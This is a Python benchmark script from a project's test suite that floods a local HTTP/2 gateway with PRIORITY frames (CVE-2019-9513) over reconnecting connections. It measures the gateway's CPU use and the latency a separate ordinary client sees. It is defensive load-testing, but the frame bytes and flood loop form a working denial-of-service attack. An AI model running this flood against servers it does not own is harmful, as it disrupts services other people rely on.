"""An HTTP/2 control-frame flood that reconnects, measured from outside.

    python3 tests/bench/h2_flood.py HOST PORT WORKERS SECONDS GATEWAY_PID [PATH]

WORKERS threads each open an h2c connection from 127.0.0.1, send HTTP/2's preface and then
14-byte PRIORITY frames as fast as they can (CVE-2019-9513), and open a new connection
whenever the gateway closes theirs. Meanwhile a citizen asks for PATH every 50 ms on its own
keep-alive connection, from another loopback address (127.0.0.2), so a penalty on the
flood's address is not his. Prints the frames sent, the connections made, the gateway's CPU
(utime + stime of GATEWAY_PID over the run) and the citizen's p50/p99/max latency.
WORKERS 0 measures the citizen alone. Run by tests/bench/run.sh flood.
"""

import http.client
import os
import socket
import sys
import threading
import time

host, port = sys.argv[1], int(sys.argv[2])
workers, seconds, pid = int(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5])
path = sys.argv[6] if len(sys.argv) > 6 else "/s/cnie-renewal/"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\x04\0\0\0\0\0"
PRIORITY = bytes([0, 0, 5, 2, 0, 0, 0, 0, 1, 0, 0, 0, 0, 15])
BATCH = PRIORITY * 2000
CITIZEN = ("127.0.0.2", 0)

stop = time.time() + seconds
stats = {"frames": 0, "conns": 0}
lock = threading.Lock()


def flood():
    while time.time() < stop:
        s = None
        try:
            s = socket.create_connection((host, port), source_address=("127.0.0.1", 0))
            s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
            with lock:
                stats["conns"] += 1
            s.sendall(PREFACE)
            while time.time() < stop:
                s.sendall(BATCH)
                with lock:
                    stats["frames"] += 2000
        except OSError:
            pass
        finally:
            if s is not None:
                s.close()


def cpu_seconds():
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


latencies = []


def citizen():
    conn = http.client.HTTPConnection(host, port, timeout=10, source_address=CITIZEN)
    while time.time() < stop:
        start = time.perf_counter()
        try:
            conn.request("GET", path)
            conn.getresponse().read()
            latencies.append((time.perf_counter() - start) * 1000)
        except Exception:
            latencies.append(10_000.0)
            conn = http.client.HTTPConnection(host, port, timeout=10, source_address=CITIZEN)
        time.sleep(0.05)


cpu0, t0 = cpu_seconds(), time.time()
threads = [threading.Thread(target=flood) for _ in range(workers)]
threads.append(threading.Thread(target=citizen))
for t in threads:
    t.start()
for t in threads:
    t.join()
cpu1, elapsed = cpu_seconds(), time.time() - t0
latencies.sort()


def q(p):
    return latencies[min(len(latencies) - 1, int(p * len(latencies)))] if latencies else float("nan")


print(
    f"workers={workers} secs={elapsed:.1f} frames_sent={stats['frames']} "
    f"connections={stats['conns']} gateway_cpu={cpu1 - cpu0:.2f}s "
    f"({(cpu1 - cpu0) / elapsed:.2f} cores) citizen n={len(latencies)} "
    f"p50={q(.5):.1f}ms p99={q(.99):.1f}ms max={latencies[-1] if latencies else 0:.1f}ms"
)
